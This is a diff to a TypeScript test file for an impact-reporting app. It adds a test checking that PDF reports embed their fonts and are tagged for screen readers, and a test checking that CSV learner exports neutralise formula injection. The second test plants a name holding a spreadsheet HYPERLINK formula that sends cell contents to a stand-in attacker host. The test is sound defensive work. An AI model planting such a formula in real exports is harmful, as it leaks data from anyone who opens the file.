@@ -1,14 +1,17 @@
+import { parse } from "csv-parse/sync";
 import { and, eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { ImpactView, SuccessCasesView } from "../../../common/schemas/impact.ts";
 import { createTestApp, type TestApp } from "../../../test-support/app.ts";
 import { caller } from "../../../test-support/learning.ts";
+import { pdfFonts, pdfStructure } from "../../../test-support/pdf-inspect.ts";
 import { pdfPages } from "../../../test-support/pdf-text.ts";
 import {
   auditEvents,
   impactKpis,
   learnerPreferences,
   measures,
+  persons,
   surveyResponses,
   trajectories,
 } from "../../db/schema/index.ts";
@@ -139,6 +142,22 @@ describe("impact on the demo organisation", () => {
     expect(summaryPages[0]).toContain("Impact report");
   });
 
+  it("embeds its font and tags the report for screen readers, so '14 → 9' reads as written", async () => {
+    const response = await call(
+      "GET",
+      `/api/trajectories/${trajectoryId}/impact/report.pdf?cohortId=${finishedId}&lang=nl`,
+      coordinator,
+    );
+    const fonts = pdfFonts(response.rawPayload);
+    expect(fonts.standard).toEqual([]);
+    expect(fonts.allEmbedded).toBe(true);
+    expect((await pdfPages(response.rawPayload)).join(" ")).toContain("14 → 9");
+    const structure = await pdfStructure(response.rawPayload);
+    expect(structure).toMatchObject({ marked: true, language: "nl" });
+    expect(structure.title).toContain("Impactrapport");
+    expect(structure.roles).toEqual(expect.arrayContaining(["H1", "H2", "P"]));
+  });
+
   it("exports the tiers as CSV without names, and the learners as CSV for the coordinator (logged)", async () => {
     const tiers = await call(
       "GET",
@@ -159,6 +178,29 @@ describe("impact on the demo organisation", () => {
       .from(auditEvents)
       .where(eq(auditEvents.action, "impact.learners-exported"));
     expect(logged).toHaveLength(1);
+  });
+
+  it("neutralises a learner's name that a spreadsheet would run as a formula", async () => {
+    const download = async () =>
+      (
+        await call(
+          "GET",
+          `/api/trajectories/${trajectoryId}/impact/learners.csv?cohortId=${finishedId}&lang=en`,
+          coordinator,
+        )
+      ).body;
+    const realName = (parse(await download(), { delimiter: ";", bom: true }) as string[][])[1]![0]!;
+    const planted = '=HYPERLINK("https://evil.example/?"&A1;"Open")';
+    const rename = (from: string, to: string) =>
+      t.database.db.update(persons).set({ name: to }).where(eq(persons.name, from));
+    await rename(realName, planted);
+    try {
+      const rows = parse(await download(), { delimiter: ";", bom: true }) as string[][];
+      expect(rows.map((row) => row[0])).toContain(`'${planted}`);
+      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    } finally {
+      await rename(planted, realName);
+    }
   });
 
   it("lists success cases only among learners who agreed, and records an interview only with consent", async () => {
